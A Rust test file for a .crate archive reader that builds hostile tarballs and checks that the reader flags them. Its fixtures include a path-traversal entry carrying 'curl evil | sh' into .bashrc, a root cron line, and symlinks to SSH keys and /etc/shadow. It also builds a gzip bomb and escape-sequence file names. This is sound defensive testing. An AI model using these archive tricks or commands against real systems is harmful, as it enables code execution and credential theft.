//! Hostile archives, built here with the tar crate (raw headers where its Builder refuses),
//! read with ferret-archive. Each test asserts the exact problems recorded.

use ferret_archive::{
    ArchiveError, CrateArchive, FileKind, Limits, Problem, read_crate_bytes, read_crate_file,
};
use flate2::Compression;
use flate2::write::GzEncoder;
use std::io::{self, Read, Write};
use tar::{EntryType, Header};

const ROOT: &str = "pkg-0.1.0";
const CARGO_TOML: &[u8] = b"[package]\nname = \"pkg\"\nversion = \"0.1.0\"\n";

/// A `.crate` under construction. Every header is written raw, so nothing is refused.
struct Crate {
    builder: tar::Builder<GzEncoder<Vec<u8>>>,
}

fn header(path: &[u8], kind: EntryType, size: u64, mode: u32) -> Header {
    assert!(path.len() <= 100, "raw name field holds 100 bytes");
    let mut h = Header::new_gnu();
    h.as_old_mut().name = [0; 100];
    h.as_old_mut().name[..path.len()].copy_from_slice(path);
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(mode);
    h.set_mtime(0);
    h.set_cksum();
    h
}

impl Crate {
    fn new() -> Self {
        Self::with_level(Compression::default())
    }

    fn with_level(level: Compression) -> Self {
        Crate {
            builder: tar::Builder::new(GzEncoder::new(Vec::new(), level)),
        }
    }

    /// A normal crate: `Cargo.toml` and `src/lib.rs` under the root.
    fn normal() -> Self {
        let mut c = Crate::new();
        c.file("Cargo.toml", CARGO_TOML);
        c.file("src/lib.rs", b"pub fn f() {}\n");
        c
    }

    /// A regular file at `ROOT/rel`.
    fn file(&mut self, rel: &str, data: &[u8]) -> &mut Self {
        self.raw_file(format!("{ROOT}/{rel}").as_bytes(), data)
    }

    /// A regular file with exactly this name field.
    fn raw_file(&mut self, path: &[u8], data: &[u8]) -> &mut Self {
        let h = header(path, EntryType::Regular, data.len() as u64, 0o644);
        self.builder.append(&h, data).unwrap();
        self
    }

    /// A file whose content is streamed from `data` (`size` bytes), never held in memory.
    fn streamed(&mut self, rel: &str, size: u64, data: impl Read) -> &mut Self {
        let h = header(
            format!("{ROOT}/{rel}").as_bytes(),
            EntryType::Regular,
            size,
            0o644,
        );
        self.builder.append(&h, data).unwrap();
        self
    }

    /// A non-file entry with a link name.
    fn special(&mut self, rel: &str, kind: EntryType, link: &[u8]) -> &mut Self {
        let mut h = header(format!("{ROOT}/{rel}").as_bytes(), kind, 0, 0o777);
        h.as_old_mut().linkname[..link.len()].copy_from_slice(link);
        h.set_cksum();
        self.builder.append(&h, io::empty()).unwrap();
        self
    }

    fn bytes(self) -> Vec<u8> {
        self.builder.into_inner().unwrap().finish().unwrap()
    }

    fn read(self) -> CrateArchive {
        read_crate_bytes(&self.bytes(), &Limits::default()).expect("archive should be readable")
    }
}

fn paths(a: &CrateArchive) -> Vec<&str> {
    a.files.iter().map(|f| f.path.as_str()).collect()
}

#[test]
fn normal_crate() {
    let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
    let mut c = Crate::new();
    c.file("Cargo.toml", CARGO_TOML)
        .file("src/lib.rs", b"pub fn f() {}\n")
        .file("README.md", b"# pkg\n")
        .file("res/helper.rs", elf);
    let h = header(
        format!("{ROOT}/run.sh").as_bytes(),
        EntryType::Regular,
        10,
        0o755,
    );
    c.builder.append(&h, &b"echo hello"[..]).unwrap();
    let bytes = c.bytes();
    let a = read_crate_bytes(&bytes, &Limits::default()).unwrap();
    assert_eq!(a.problems, []);
    assert_eq!(a.root.as_deref(), Some(ROOT));
    assert_eq!(
        paths(&a),
        [
            "Cargo.toml",
            "src/lib.rs",
            "README.md",
            "res/helper.rs",
            "run.sh"
        ]
    );
    assert_eq!(a.cargo_toml().unwrap().kind, FileKind::CargoToml);
    assert_eq!(a.text("src/lib.rs").unwrap(), "pub fn f() {}\n");
    assert_eq!(a.file("README.md").unwrap().kind, FileKind::Markdown);
    let helper = a.file("res/helper.rs").unwrap();
    assert_eq!(helper.kind, FileKind::Elf, "magic bytes beat the .rs name");
    assert!(helper.kind.is_executable());
    let run = a.file("run.sh").unwrap();
    assert_eq!(run.kind, FileKind::Shell);
    assert!(run.executable_bit);
    assert!(!a.file("src/lib.rs").unwrap().executable_bit);
    assert_eq!(a.compressed_size, bytes.len() as u64);
    let content: u64 = a.files.iter().map(|f| f.size).sum();
    assert_eq!(a.unpacked_size, content);
    assert!(
        a.files
            .iter()
            .all(|f| !f.truncated && f.data.len() as u64 == f.size)
    );
    assert!(!a.incomplete());
}

#[test]
fn path_traversal_is_refused() {
    let mut c = Crate::normal();
    c.raw_file(b"pkg-0.1.0/../../../.bashrc", b"curl evil | sh")
        .raw_file(b"pkg-0.1.0/src/..\\..\\..\\x.rs", b"evil")
        .raw_file(b"../outside", b"evil")
        .file("src/ok..rs", b"fine");
    let a = c.read();
    assert_eq!(
        a.problems,
        [
            Problem::PathTraversal {
                path: "pkg-0.1.0/../../../.bashrc".into()
            },
            Problem::PathTraversal {
                path: "pkg-0.1.0/src/..\\..\\..\\x.rs".into()
            },
            Problem::PathTraversal {
                path: "../outside".into()
            },
        ]
    );
    assert_eq!(paths(&a), ["Cargo.toml", "src/lib.rs", "src/ok..rs"]);
}

#[test]
fn absolute_paths_are_refused() {
    let mut c = Crate::normal();
    c.raw_file(b"/etc/cron.d/evil", b"* * * * * root sh")
        .raw_file(b"C:\\Windows\\evil.exe", b"MZ");
    let a = c.read();
    assert_eq!(
        a.problems,
        [
            Problem::AbsolutePath {
                path: "/etc/cron.d/evil".into()
            },
            Problem::AbsolutePath {
                path: "C:\\Windows\\evil.exe".into()
            },
        ]
    );
    assert_eq!(paths(&a), ["Cargo.toml", "src/lib.rs"]);
}

#[test]
fn symlinks_and_hardlinks_are_recorded_not_followed() {
    let mut c = Crate::normal();
    c.special("src/key", EntryType::Symlink, b"/home/user/.ssh/id_rsa")
        .special("src/copy", EntryType::Link, b"/etc/shadow");
    let a = c.read();
    assert_eq!(
        a.problems,
        [
            Problem::Link {
                path: "src/key".into(),
                target: "/home/user/.ssh/id_rsa".into(),
                hard: false
            },
            Problem::Link {
                path: "src/copy".into(),
                target: "/etc/shadow".into(),
                hard: true
            },
        ]
    );
    assert_eq!(paths(&a), ["Cargo.toml", "src/lib.rs"]);
}

#[test]
fn devices_are_refused() {
    let mut c = Crate::normal();
    c.special("dev/tty", EntryType::Char, b"")
        .special("dev/sda", EntryType::Block, b"")
        .special("dev/pipe", EntryType::Fifo, b"");
    let a = c.read();
    assert_eq!(
        a.problems,
        [
            Problem::Device {
                path: "dev/tty".into()
            },
            Problem::Device {
                path: "dev/sda".into()
            },
            Problem::Device {
                path: "dev/pipe".into()
            },
        ]
    );
    assert_eq!(paths(&a), ["Cargo.toml", "src/lib.rs"]);
}

/// 1 GiB of zeros, compressed while streamed (the test never holds it): about 5 MiB.
fn gzip_bomb() -> Vec<u8> {
    let mut c = Crate::with_level(Compression::fast());
    c.file("Cargo.toml", CARGO_TOML);
    c.streamed("zeros.bin", 1 << 30, io::repeat(0).take(1 << 30));
    c.file("src/lib.rs", b"after the bomb");
    let bytes = c.bytes();
    assert!(bytes.len() < 8 << 20, "bomb is {} bytes", bytes.len());
    bytes
}

#[test]
fn gzip_bomb_stops_at_total_or_ratio() {
    let bomb = gzip_bomb();

    // Default limits: decompression stops at 512 MiB; memory holds only the 32 MiB prefix.
    let a = read_crate_bytes(&bomb, &Limits::default()).unwrap();
    assert_eq!(
        a.problems,
        [
            Problem::FileTooLarge {
                path: "zeros.bin".into(),
                size: 1 << 30
            },
            Problem::TotalTooLarge { limit: 512 << 20 },
        ]
    );
    assert!(a.incomplete());
    assert!(a.unpacked_size <= 512 << 20);
    assert_eq!(
        paths(&a),
        ["Cargo.toml", "zeros.bin"],
        "reading stopped before src/lib.rs"
    );
    let zeros = a.file("zeros.bin").unwrap();
    assert!(zeros.truncated && zeros.size == 1 << 30 && zeros.data.len() == 32 << 20);

    // A tighter ratio limit stops it soon after the first 32 MiB.
    let limits = Limits {
        max_compression_ratio: 100,
        ..Limits::default()
    };
    let a = read_crate_bytes(&bomb, &limits).unwrap();
    assert_eq!(a.problems.len(), 2, "{:?}", a.problems);
    assert_eq!(
        a.problems[0],
        Problem::FileTooLarge {
            path: "zeros.bin".into(),
            size: 1 << 30
        }
    );
    let Problem::CompressionRatio {
        compressed,
        unpacked,
        limit,
    } = a.problems[1]
    else {
        panic!("expected a compression ratio problem, got {:?}", a.problems);
    };
    assert_eq!(limit, 100);
    assert!(unpacked > 32 << 20 && unpacked < 33 << 20, "{unpacked}");
    assert!(unpacked / compressed > 100);
    assert!(a.file("zeros.bin").unwrap().truncated);
}

#[test]
fn too_many_files_stops_reading() {
    let mut c = Crate::normal();
    for i in 0..20 {
        c.file(&format!("gen/f{i}.rs"), b"//");
    }
    let limits = Limits {
        max_files: 10,
        ..Limits::default()
    };
    let a = read_crate_bytes(&c.bytes(), &limits).unwrap();
    assert_eq!(a.problems, [Problem::TooManyFiles { limit: 10 }]);
    assert_eq!(a.files.len(), 10);
    assert!(a.incomplete());
}

#[test]
fn too_deep_is_refused() {
    let deep = |n: usize| format!("{}x.rs", "d/".repeat(n - 1));
    let mut c = Crate::normal();
    c.file(&deep(40), b"ok").file(&deep(41), b"too deep");
    let a = c.read();
    assert_eq!(
        a.problems,
        [Problem::TooDeep {
            path: deep(41),
            depth: 41
        }]
    );
    assert!(a.file(&deep(40)).is_some());
    assert!(a.file(&deep(41)).is_none());
}

#[test]
fn huge_file_is_truncated_and_reading_goes_on() {
    let mut c = Crate::normal();
    let big: Vec<u8> = (0..5u32 << 20).map(|i| (i % 251) as u8).collect();
    c.file("data/big.bin", &big)
        .file("src/after.rs", b"fn after() {}");
    let limits = Limits {
        max_file_bytes: 1 << 20,
        ..Limits::default()
    };
    let a = read_crate_bytes(&c.bytes(), &limits).unwrap();
    assert_eq!(
        a.problems,
        [Problem::FileTooLarge {
            path: "data/big.bin".into(),
            size: 5 << 20
        }]
    );
    let f = a.file("data/big.bin").unwrap();
    assert!(f.truncated);
    assert_eq!(f.size, 5 << 20);
    assert_eq!(f.data, big[..1 << 20]);
    assert_eq!(a.text("src/after.rs").unwrap(), "fn after() {}");
    assert_eq!(a.unpacked_size, a.files.iter().map(|f| f.size).sum::<u64>());
}

#[test]
fn invalid_utf8_path_and_content() {
    let mut c = Crate::normal();
    c.raw_file(b"pkg-0.1.0/src/\xff\xfe.rs", b"ok")
        .file("src/latin1.rs", b"// caf\xe9\nfn main() {}\n");
    let a = c.read();
    let lossy = "src/\u{fffd}\u{fffd}.rs";
    assert_eq!(
        a.problems,
        [Problem::InvalidUtf8Path {
            path: format!("{ROOT}/{lossy}")
        }]
    );
    assert_eq!(a.file(lossy).unwrap().data, b"ok");
    let latin = a.file("src/latin1.rs").unwrap();
    assert_eq!(
        latin.data, b"// caf\xe9\nfn main() {}\n",
        "content is bytes, kept exactly"
    );
    assert_eq!(latin.kind, FileKind::Rust);
    assert_eq!(latin.text(), "// caf\u{fffd}\nfn main() {}\n");
}

#[test]
fn outside_root_and_duplicates() {
    let mut c = Crate::normal();
    c.raw_file(b"other-9.9.9/src/lib.rs", b"hidden")
        .raw_file(b"toplevel.rs", b"hidden")
        .file("src/lib.rs", b"second copy");
    let a = c.read();
    assert_eq!(
        a.problems,
        [
            Problem::OutsideRoot {
                path: "other-9.9.9/src/lib.rs".into()
            },
            Problem::OutsideRoot {
                path: "toplevel.rs".into()
            },
            Problem::Duplicate {
                path: "src/lib.rs".into()
            },
        ]
    );
    assert_eq!(paths(&a), ["Cargo.toml", "src/lib.rs"]);
    assert_eq!(
        a.text("src/lib.rs").unwrap(),
        "second copy",
        "the last copy wins, as on disk"
    );
}

#[test]
fn data_after_the_end_of_archive() {
    let c = Crate::normal();
    let mut tar = c.builder.into_inner().unwrap().finish().unwrap();
    // Unwrap the gzip, append hidden data after the end marker, wrap again.
    let mut plain = Vec::new();
    flate2::read::GzDecoder::new(&tar[..])
        .read_to_end(&mut plain)
        .unwrap();
    plain.extend_from_slice(b"hidden payload");
    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    gz.write_all(&plain).unwrap();
    tar = gz.finish().unwrap();
    let a = read_crate_bytes(&tar, &Limits::default()).unwrap();
    assert_eq!(a.problems, [Problem::TrailingData { nonzero_bytes: 14 }]);
    assert_eq!(a.files.len(), 2);
}

/// A crate with enough incompressible content that a cut lands after the first files.
fn crate_with_noise() -> Vec<u8> {
    let mut c = Crate::normal();
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let noise: Vec<u8> = (0..256 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    c.file("data/noise.bin", &noise)
        .file("src/late.rs", b"late");
    c.bytes()
}

#[test]
fn truncated_gzip_keeps_what_was_read() {
    let bytes = crate_with_noise();
    let cut = &bytes[..bytes.len() / 2];
    let a = read_crate_bytes(cut, &Limits::default()).unwrap();
    assert_eq!(a.problems.len(), 1, "{:?}", a.problems);
    assert!(
        matches!(a.problems[0], Problem::Corrupt { .. }),
        "{:?}",
        a.problems
    );
    assert!(a.incomplete());
    assert_eq!(a.text("src/lib.rs").unwrap(), "pub fn f() {}\n");
    let noise = a.file("data/noise.bin").unwrap();
    assert!(noise.truncated && noise.data.len() < noise.size as usize);
    assert!(a.file("src/late.rs").is_none());

    // Cut inside the gzip header: nothing to keep, an error naming the target.
    let err = read_crate_bytes(&bytes[..6], &Limits::default()).unwrap_err();
    assert!(matches!(err, ArchiveError::Corrupt { .. }), "{err:?}");
    assert!(err.to_string().starts_with("<memory> is damaged"), "{err}");
}

#[test]
fn bad_gzip_checksum_is_corrupt() {
    let mut bytes = Crate::normal().bytes();
    let n = bytes.len();
    bytes[n - 8] ^= 0xff; // CRC32 in the gzip trailer
    let a = read_crate_bytes(&bytes, &Limits::default()).unwrap();
    assert_eq!(a.files.len(), 2);
    assert_eq!(a.problems.len(), 1);
    assert!(
        matches!(a.problems[0], Problem::Corrupt { .. }),
        "{:?}",
        a.problems
    );
}

#[test]
fn not_gzip_empty_and_not_a_crate_name_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let limits = Limits::default();

    let plain_tar = dir.path().join("plain.crate");
    let mut b = tar::Builder::new(Vec::new());
    b.append(
        &header(b"pkg-0.1.0/Cargo.toml", EntryType::Regular, 3, 0o644),
        &b"[x]"[..],
    )
    .unwrap();
    std::fs::write(&plain_tar, b.into_inner().unwrap()).unwrap();
    let err = read_crate_file(&plain_tar, &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::NotGzip { .. }), "{err:?}");
    assert!(err.to_string().contains("plain.crate"), "{err}");

    let empty = dir.path().join("empty.crate");
    std::fs::write(&empty, b"").unwrap();
    let err = read_crate_file(&empty, &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::Empty { .. }), "{err:?}");
    assert!(err.to_string().contains("empty.crate"), "{err}");

    let one = dir.path().join("one-byte.crate");
    std::fs::write(&one, [0x1f]).unwrap();
    assert!(matches!(
        read_crate_file(&one, &limits),
        Err(ArchiveError::NotGzip { .. })
    ));

    let no_manifest = dir.path().join("nomanifest.crate");
    let mut c = Crate::new();
    c.file("src/lib.rs", b"fn f() {}");
    std::fs::write(&no_manifest, c.bytes()).unwrap();
    let err = read_crate_file(&no_manifest, &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::NotACrate { .. }), "{err:?}");
    assert!(err.to_string().contains("nomanifest.crate"), "{err}");
    assert!(err.to_string().contains("no Cargo.toml"), "{err}");

    let gz_text = dir.path().join("text.crate");
    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    gz.write_all(&[b'x'; 2000]).unwrap();
    std::fs::write(&gz_text, gz.finish().unwrap()).unwrap();
    let err = read_crate_file(&gz_text, &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::Corrupt { .. }), "{err:?}");
    assert!(err.to_string().contains("text.crate"), "{err}");

    let empty_tar = dir.path().join("emptytar.crate");
    let gz = GzEncoder::new(Vec::new(), Compression::default());
    std::fs::write(&empty_tar, gz.finish().unwrap()).unwrap();
    let err = read_crate_file(&empty_tar, &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::NotACrate { .. }), "{err:?}");

    let missing = dir.path().join("missing.crate");
    let err = read_crate_file(&missing, &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::Io { .. }), "{err:?}");
    assert!(err.to_string().contains("missing.crate"), "{err}");

    let err = read_crate_file(dir.path(), &limits).unwrap_err();
    assert!(matches!(err, ArchiveError::NotAFile { .. }), "{err:?}");

    #[cfg(unix)]
    {
        // A socket named like a crate: refused without opening it.
        let sock = dir.path().join("sock.crate");
        let _l = std::os::unix::net::UnixListener::bind(&sock).unwrap();
        let err = read_crate_file(&sock, &limits).unwrap_err();
        assert!(matches!(err, ArchiveError::NotAFile { .. }), "{err:?}");
        assert!(err.to_string().contains("sock.crate"), "{err}");
    }

    let big = dir.path().join("big.crate");
    std::fs::write(&big, Crate::normal().bytes()).unwrap();
    let small = Limits {
        max_compressed_bytes: 10,
        ..Limits::default()
    };
    let err = read_crate_file(&big, &small).unwrap_err();
    assert!(
        matches!(err, ArchiveError::TooLarge { limit: 10, .. }),
        "{err:?}"
    );
}

#[test]
fn display_names_the_path_and_escapes_it() {
    let mut c = Crate::normal();
    c.raw_file(b"pkg-0.1.0/../\x1b[2J\nfake.rs", b"x");
    let a = c.read();
    assert_eq!(a.problems.len(), 1);
    let shown = a.problems[0].to_string();
    assert_eq!(
        shown,
        "path \"pkg-0.1.0/../\\u{1b}[2J\\nfake.rs\" has a `..` component (not read)"
    );
    assert!(!shown.contains('\x1b') && !shown.contains('\n'));
    assert_eq!(a.problems[0].code(), "path-traversal");
}

#[test]
fn long_gnu_names_are_followed_and_overlong_refused() {
    let mut c = Crate::normal();
    // The Builder writes a GNU long-name entry for names over 100 bytes.
    let long = format!("src/{}.rs", "n".repeat(150));
    let mut h = Header::new_gnu();
    h.set_size(2);
    h.set_mode(0o644);
    c.builder
        .append_data(&mut h, format!("{ROOT}/{long}"), &b"ok"[..])
        .unwrap();
    let overlong = format!("src/{}.rs", "x".repeat(5000));
    let mut h = Header::new_gnu();
    h.set_size(2);
    c.builder
        .append_data(&mut h, format!("{ROOT}/{overlong}"), &b"no"[..])
        .unwrap();
    let a = c.read();
    assert_eq!(a.text(&long).unwrap(), "ok");
    assert_eq!(a.problems.len(), 1);
    assert!(
        matches!(&a.problems[0], Problem::PathTooLong { len, .. } if *len == ROOT.len() + 1 + overlong.len()),
        "{:?}",
        a.problems
    );
}
